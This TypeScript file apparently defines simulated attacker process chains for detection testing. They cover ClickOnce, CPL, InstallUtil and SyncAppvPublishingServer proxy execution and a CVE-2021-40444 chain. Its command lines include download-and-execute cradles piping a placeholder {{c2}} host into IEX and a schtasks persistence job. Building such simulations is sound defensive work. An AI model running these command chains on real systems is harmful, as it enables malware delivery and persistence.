import { NET35, v } from "../dsl";
import type { Variant } from "../types";

/**
 * Signed-binary proxy execution variants modelled on real delivery chains (ClickOnce lures, mailed CPLs,
 * InstallUtil via LOLBAS, SyncAppvPublishingServer), kept apart from defense-evasion-2 so its rows stay short.
 */

export const clickOnceVariants: Variant[] = [
  v(
    "rundll32-dfshim",
    [
      {
        // Edge hands a .application link to dfshim (the lure page's "Install" button).
        cmd: '"C:\\Windows\\System32\\rundll32.exe" "C:\\Windows\\System32\\dfshim.dll",ShOpenVerbApplication https://{{c2}}/app/{{name}}.application',
        parent: "@msedge",
        as: "r",
        net: [["{{c2}}", 443]],
      },
      // rundll32 (dfshim) starts the per-user ClickOnce service, which caches the app under Apps\2.0 and starts it.
      {
        cmd: `${NET35}\\dfsvc.exe`,
        parent: "r",
        as: "dfsvc",
        net: [["{{c2}}", 443]],
        files: ["{{local}}\\Apps\\2.0\\{{$dir}}\\{{name}}.exe"],
        keep: true,
      },
      {
        cmd: '"{{local}}\\Apps\\2.0\\{{$dir}}\\{{name}}.exe" ',
        parent: "dfsvc",
        net: [["{{c2}}", 443]],
      },
    ],
    { shell: "none", vars: { dir: "{{rand2}}.{{rand}}\\{{rand}}..tion_{{rand2}}_0001.0000_{{rand}}" } },
  ),
];

export const syncAppvVariants: Variant[] = [
  // The signed script builds a hidden powershell.exe command around the "n;<command>" argument.
  v("vbs", [
    {
      cmd: "cscript.exe C:\\Windows\\System32\\SyncAppvPublishingServer.vbs \"n;(New-Object Net.WebClient).DownloadString('http://{{c2}}/p') | IEX\"",
      as: "vbs",
    },
    {
      cmd: "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NonInteractive -WindowStyle Hidden -ExecutionPolicy RemoteSigned -Command &{$env:psmodulepath = [IO.Directory]::GetCurrentDirectory(); import-module AppvClient; Sync-AppvPublishingServer n;(New-Object Net.WebClient).DownloadString('http://{{c2}}/p') | IEX}",
      parent: "vbs",
      net: [["{{c2}}", 80]],
    },
  ]),
];

export const controlPanelVariants: Variant[] = [
  // A mailed CPL opened from Downloads: the loader in it fetches its payload and persists through schtasks.
  v(
    "cpl-lure-persist",
    [
      {
        cmd: '"C:\\Windows\\System32\\control.exe" "{{downloads}}\\{{$lure}}.cpl",',
        as: "c",
        parent: "@explorer",
      },
      {
        cmd: '"C:\\Windows\\System32\\rundll32.exe" Shell32.dll,Control_RunDLL "{{downloads}}\\{{$lure}}.cpl",',
        parent: "c",
        as: "r",
        loads: ["{{downloads}}\\{{$lure}}.cpl"],
        net: [["{{c2}}", 443]],
        files: ["{{appdata}}\\{{name}}\\{{name}}.cpl"],
      },
      {
        cmd: 'schtasks.exe /create /sc minute /mo 30 /tn "{{name}}" /tr "rundll32.exe shell32.dll,Control_RunDLL {{appdata}}\\{{name}}\\{{name}}.cpl" /f',
        parent: "r",
        then: [
          {
            id: "t",
            kind: "task.create",
            name: "\\{{name}}",
            command: "rundll32.exe",
            arguments: "shell32.dll,Control_RunDLL {{appdata}}\\{{name}}\\{{name}}.cpl",
            trigger: "minute",
          },
        ],
      },
    ],
    { shell: "none", vars: { lure: "{{Invoice|Receipt|Tracking}}_{{n}}" } },
  ),
];

export const installUtilVariants: Variant[] = [
  // LOLBAS: InstallUtil given a URL fetches it into the INetCache, then runs the cached assembly's uninstaller.
  v(
    "installutil-fetch",
    [
      {
        cmd: `${NET35}\\InstallUtil.exe https://{{c2}}/{{rand}}.dll`,
        net: [["{{c2}}", 443]],
        files: ["{{local}}\\Microsoft\\Windows\\INetCache\\IE\\{{$cache}}\\{{rand}}[1].dll"],
      },
      `${NET35}\\InstallUtil.exe /logfile= /LogToConsole=false /U "{{local}}\\Microsoft\\Windows\\INetCache\\IE\\{{$cache}}\\{{rand}}[1].dll"`,
    ],
    { vars: { cache: "{{rand2}}" } },
  ),
];

/** CVE-2021-40444: the Word document's MSHTML exploit hands control.exe a ".cpl:" path to a dropped INF (a DLL). */
export const controlPanelExploitVariants: Variant[] = [
  v(
    "cve-2021-40444",
    [
      {
        cmd: `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "{{downloads}}\\{{rand}}.docx"`,
        as: "w",
        parent: "@explorer",
        net: [["{{c2}}", 443]],
        files: ["{{local}}\\Temp\\Low\\{{name}}.inf"],
      },
      {
        cmd: '"C:\\Windows\\System32\\control.exe" ".cpl:../../../AppData/Local/Temp/Low/{{name}}.inf",',
        as: "c",
        parent: "w",
      },
      {
        cmd: '"C:\\Windows\\System32\\rundll32.exe" "C:\\Windows\\System32\\shell32.dll",#44 ".cpl:../../../AppData/Local/Temp/Low/{{name}}.inf",',
        parent: "c",
        loads: ["{{local}}\\Temp\\Low\\{{name}}.inf"],
        net: [["{{c2}}", 443]],
      },
    ],
    { shell: "none" },
  ),
];
